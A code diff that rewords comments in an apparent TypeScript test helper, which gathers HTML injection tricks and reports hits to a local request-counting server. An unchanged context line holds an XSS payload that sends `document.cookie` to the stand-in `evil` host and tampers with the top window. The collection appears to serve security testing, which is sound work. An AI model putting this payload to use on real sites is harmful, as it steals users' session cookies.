@@ -1,9 +1,9 @@
-/** What people put into HTML so that it does something: a collection of known ways, one at a time. */
+/** Collects the known ways in which HTML can do harm, one at a time. */
 import { createServer } from 'node:http';
 
 /**
- * What each tries to do is told to `evil`: a server that only counts who comes. `ran` is code that says so too, by a request
- * and by a mark on the window above.
+ * Returns tricks that report to `evil`, a server that only counts requests. `ran` is code that also reports, by a
+ * request and by a mark on the window above.
  */
 export function tricks(evil: string): Readonly<Record<string, string>> {
   const ran = `new Image().src='${evil}/ran?'+document.cookie;try{top.document.title='ran';top.ran=1}catch(e){}`;
@@ -90,7 +90,7 @@ export function tricks(evil: string): Readonly<Record<string, string>> {
 export interface Elsewhere {
   /** `http://127.0.0.1:4711` */
   readonly address: string;
-  /** What was asked of it, but for pages of its own. */
+  /** Requests to the server, except for its own pages. */
   readonly came: string[];
   readonly close: () => Promise<void>;
 }
